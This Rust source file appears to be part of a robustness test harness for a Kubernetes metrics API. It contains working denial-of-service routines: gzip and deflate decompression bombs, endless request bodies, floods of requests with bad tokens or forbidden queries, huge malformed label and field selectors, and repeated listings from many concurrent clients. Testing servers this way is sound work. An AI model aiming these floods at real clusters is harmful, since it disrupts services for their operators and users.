//! Attacks with requests that any client could make.

use std::io::{self, Write as _};

use flate2::Compression;
use flate2::write::GzEncoder;
use reqwest::Client;

use crate::attacker::{Attacker, url};

const PODS: &str = "/apis/metrics.k8s.io/v1beta1/pods";

/// Bodies that would be ten megabytes, were they inflated, and such that never end.
pub(super) async fn bombs(attacker: Attacker) {
    // One member after the other is as good as a long one, and sooner made.
    let mut member = GzEncoder::new(Vec::new(), Compression::fast());
    let _ = member.write_all(&vec![0; 1 << 20]);
    let bomb = bytes::Bytes::from(member.finish().unwrap_or_default().repeat(10));
    let work = move |attacker: Attacker, number: usize| {
        let bomb = bomb.clone();
        async move {
            let client = attacker.client()?.http1_only().build().map_err(io::Error::other)?;
            loop {
                let request = client.post(url(PODS)).bearer_auth(&attacker.viewer).header("accept-encoding", "deflate");
                let request = if number.is_multiple_of(2) {
                    request.header("content-encoding", "gzip").body(bomb.clone())
                } else {
                    let zeros = futures::stream::repeat_with(|| io::Result::Ok(bytes::Bytes::from_static(&[0; 4096])));
                    request.header("content-encoding", "deflate").body(reqwest::Body::wrap_stream(zeros))
                };
                let _ = request.send().await;
                attacker.did();
            }
        }
    };
    attacker.many(8, work).await;
}

/// Callers who show nothing and ask for another path each time.
pub(super) async fn strangers(attacker: Attacker) {
    ask_in_turns(attacker, 8, |client, _, path| client.get(url(&format!("/nowhere/{path}")))).await;
}

/// Another token each time.
pub(super) async fn wrong_tokens(attacker: Attacker) {
    ask_in_turns(attacker, 8, |client, _, number| client.get(url("/apis")).bearer_auth(format!("wrong-{number}")))
        .await;
}

/// Somebody known who asks for what he may not, another thing each time.
pub(super) async fn forbidden_user(attacker: Attacker) {
    let ask = |client: &Client, attacker: &Attacker, number: &str| {
        client.get(url(&format!("{PODS}?fieldSelector=metadata.name%3Dx{number}"))).bearer_auth(&attacker.guest)
    };
    ask_in_turns(attacker, 8, ask).await;
}

/// Selectors of 50 KB and of a megabyte: as long as one may be, of which nothing can be skipped; longer than
/// that; deep and broken.
pub(super) async fn selectors(attacker: Attacker) {
    let keys = |count: usize| (0..count).map(|n| format!("!k{n}")).collect::<Vec<_>>().join(",");
    let longest = keys(1000);
    let selectors = [
        format!("labelSelector={longest}"),
        format!("labelSelector={longest}&watch=true&timeoutSeconds=1"),
        format!("fieldSelector={}", vec!["metadata.name!%3Dx"; 500].join(",")),
        format!("labelSelector={}", keys(8_000)),
        format!("labelSelector=a+in+({}x)", "x,".repeat(20_000)),
        format!("labelSelector={}", "(".repeat(10_000)),
        format!("labelSelector={}", "!".repeat(50_000)),
        format!("fieldSelector={}", "a".repeat(1 << 20)),
    ];
    let ask = move |client: &Client, attacker: &Attacker, number: &str| {
        let turn = number.bytes().map(usize::from).sum::<usize>();
        client.get(url(&format!("{PODS}?{}", selectors[turn % selectors.len()]))).bearer_auth(&attacker.viewer)
    };
    ask_in_turns(attacker, 8, ask).await;
}

/// The longest list, again and again.
pub(super) async fn lists(attacker: Attacker) {
    let ask = |client: &Client, attacker: &Attacker, _: &str| client.get(url(PODS)).bearer_auth(&attacker.viewer);
    ask_in_turns(attacker, 64, ask).await;
}

/// So many clients, each of which asks again as soon as it is answered; what is asked may be another
/// thing each time.
async fn ask_in_turns<F>(attacker: Attacker, clients: usize, ask: F)
where
    F: Fn(&Client, &Attacker, &str) -> reqwest::RequestBuilder + Clone + Send + Sync + 'static,
{
    let work = move |attacker: Attacker, number| turns(attacker, number, ask.clone());
    attacker.many(clients, work).await;
}

async fn turns<F>(attacker: Attacker, client_number: usize, ask: F) -> io::Result<()>
where
    F: Fn(&Client, &Attacker, &str) -> reqwest::RequestBuilder,
{
    let client = attacker.client()?.http1_only().build().map_err(io::Error::other)?;
    for turn in 0_u64.. {
        let answer = ask(&client, &attacker, &format!("{client_number}-{turn}")).send().await;
        if let Ok(answer) = answer {
            let _ = answer.bytes().await;
        }
        attacker.did();
    }
    Ok(())
}
